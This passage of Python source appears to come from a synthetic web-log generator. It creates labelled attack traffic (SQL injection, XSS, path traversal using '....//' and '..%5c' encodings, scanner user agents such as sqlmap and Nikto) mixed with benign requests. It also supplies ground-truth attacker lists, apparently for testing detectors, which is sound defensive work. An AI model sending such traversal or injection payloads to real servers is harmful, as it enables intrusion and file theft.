        return "....//" * depth + target
    return "..%5c" * depth + target.replace("/", "%5c")


def _normalish_request(rng: random.Random) -> tuple[str, int]:
    r = rng.random()
    if r < 0.25:
        return "/", 200
    if r < 0.5:
        return f"/products/{_product_id(rng)}", 200
    if r < 0.65:
        return f"/search?q={quote_plus(rng.choice(_SEARCH_NORMAL))}", 200
    if r < 0.8:
        return "/robots.txt", 200
    if r < 0.9:
        return rng.choice(("/admin", "/wp-login.php", "/.git/config", "/server-status")), 404
    return f"/category/{rng.choice(_CATEGORIES)}?page=1", 200


def _web_attack(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    ip = a.actors[0]
    lab = a.label
    if lab == "sql_injection":
        ua = rng.choice(("sqlmap/1.8.5#stable (https://sqlmap.org)",) * 2 + _BROWSER_UAS[:3] + _TOOL_UAS[:2])
        statuses = ((200, 0.4), (500, 0.2), (400, 0.1), (403, 0.2), (404, 0.1))
    elif lab == "xss":
        ua = rng.choice(_BROWSER_UAS[:4] + _TOOL_UAS[:2])
        statuses = ((200, 0.55), (400, 0.15), (403, 0.2), (404, 0.1))
    else:
        ua = rng.choice(("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007002)",) + _BROWSER_UAS[:3] + _TOOL_UAS[:2])
        statuses = ((404, 0.4), (400, 0.2), (403, 0.25), (200, 0.1), (500, 0.05))
    rate = rng.uniform(0.25, 0.8) * ctx.intensity
    normal_p = rng.uniform(0.1, 0.2)
    evs: list[RawEvent] = []
    t = float(a.start_ms)
    while t < a.end_ms:
        rt = _lognorm(rng, 0.05, 0.6)
        method = "GET"
        if rng.random() < normal_p:
            path, status = _normalish_request(rng)
        else:
            status = int(_weighted(rng, statuses))  # type: ignore[call-overload]
            if lab == "sql_injection":
                p, timed = _sqli_payload(rng)
                param = rng.choice((("/products", "id"), ("/search", "q"), ("/category", "sort"), ("/api/v1/items", "id"), ("/account/orders", "order")))
                path = f"{param[0]}?{param[1]}={rng.randint(1, 500) if rng.random() < 0.5 else ''}{p}"
                if timed and status == 200:
                    rt = 5.0 + rng.uniform(0.0, 0.3)
            elif lab == "xss":
                param = rng.choice((("/search", "q"), ("/products/12/reviews", "comment"), ("/login", "next"), ("/help/contact", "name"), ("/", "ref")))
                path = f"{param[0]}?{param[1]}={_xss_payload(rng)}"
                if param[0] == "/products/12/reviews" and rng.random() < 0.5:
                    method = "POST"
            else:
                p = _traversal_payload(rng)
                style = rng.random()
                if style < 0.5:
                    param = rng.choice((("/download", "file"), ("/view", "page"), ("/images", "path"), ("/api/v1/export", "template")))
                    path = f"{param[0]}?{param[1]}={p}"
                else:
                    path = rng.choice(("/static/", "/images/", "/download/", "/")) + p
        if status == 200:
            nbytes = int(_lognorm(rng, 15000, 0.6))
        elif status == 500:
            nbytes = rng.randint(380, 620)
        else:
            nbytes = rng.randint(150, 1800)
        evs.append(_access_ev(int(t), ip, None, method, path, status, nbytes, None, ua, rt, lab))
        t += rng.expovariate(rate) * 1000.0
    return evs


_ATTACK_FNS: dict[str, Callable[[_Ctx, random.Random, _Attack], list[RawEvent]]] = {
    "brute_force": _brute_force,
    "password_spraying": _password_spraying,
    "credential_stuffing": _credential_stuffing,
    "port_scan": _port_scan,
    "ddos": _ddos,
    "sql_injection": _web_attack,
    "xss": _web_attack,
    "path_traversal": _web_attack,
}


# --------------------------------------------------------------------------------------
# Assembly
# --------------------------------------------------------------------------------------


def _ts_key(ev: RawEvent) -> int:
    return ev.ts_ms


def _ordered(sessions: Iterable[tuple[float, list[RawEvent]]], end_ms: int) -> Iterator[RawEvent]:
    """Events of sessions (non-decreasing starts, events not before their start) in time order."""
    heap: list[tuple[int, int, RawEvent]] = []
    seq = itertools.count()
    for start, evs in sessions:
        bound = int(start)
        while heap and heap[0][0] < bound:
            yield heapq.heappop(heap)[2]
        for ev in evs:
            if ev.ts_ms < end_ms:
                heapq.heappush(heap, (ev.ts_ms, next(seq), ev))
    while heap:
        yield heapq.heappop(heap)[2]


def _attack_stream(ctx: _Ctx, a: _Attack) -> Iterator[RawEvent]:
    rng = _rng(ctx.cfg.seed, f"attack:{a.label}:{a.index}")
    evs = [e for e in _ATTACK_FNS[a.label](ctx, rng, a) if a.start_ms <= e.ts_ms < min(a.end_ms, ctx.end_ms)]
    evs.sort(key=_ts_key)
    yield from evs


def iter_generate(cfg: ScenarioConfig) -> Iterator[RawEvent]:
    """The events of `generate(cfg)`, in the same order, produced lazily.

    Benign components are merged session by session (memory bounded by the longest
    session); each attack is built whole (bounded by its 60-300 s window).
    """
    plan = _plan(cfg)
    ctx = _Ctx(cfg, plan)
    streams: list[Iterator[RawEvent]] = []
    for name, component in _BENIGN_COMPONENTS:
        streams.append(_ordered(component(ctx, _rng(cfg.seed, f"benign:{name}")), plan.end_ms))
    for attack in plan.attacks:
        streams.append(_attack_stream(ctx, attack))
    # heapq.merge is stable: equal timestamps keep stream order, then in-stream order.
    yield from heapq.merge(*streams, key=_ts_key)


def generate(cfg: ScenarioConfig) -> list[RawEvent]:
    """All events of the scenario, sorted by `ts_ms` (stable), deterministic for a given cfg."""
    return list(iter_generate(cfg))


def attackers(cfg: ScenarioConfig) -> dict[str, set[str]]:
    """Ground truth: scenario label -> actor IPs of that scenario (every attack label is a key;
    scenarios not in `cfg.attacks` map to an empty set)."""
    out: dict[str, set[str]] = {label: set() for label in ATTACK_LABELS}
    for a in _plan(cfg).attacks:
        out[a.label].update(a.actors)
    return out


def normal_sources(cfg: ScenarioConfig) -> set[str]:
    """Every source IP that appears in the run and only ever produces benign traffic."""
    bad: set[str] = set()
    for ips in attackers(cfg).values():
        bad |= ips
    seen: set[str] = set()
    for ev in iter_generate(cfg):
        if ev.label == LABEL_BENIGN and ev.actor not in seen and _looks_like_ipv4(ev.actor):
            seen.add(ev.actor)
    return seen - bad


def _looks_like_ipv4(s: str) -> bool:
    parts = s.split(".")
    return len(parts) == 4 and all(p.isdigit() for p in parts)
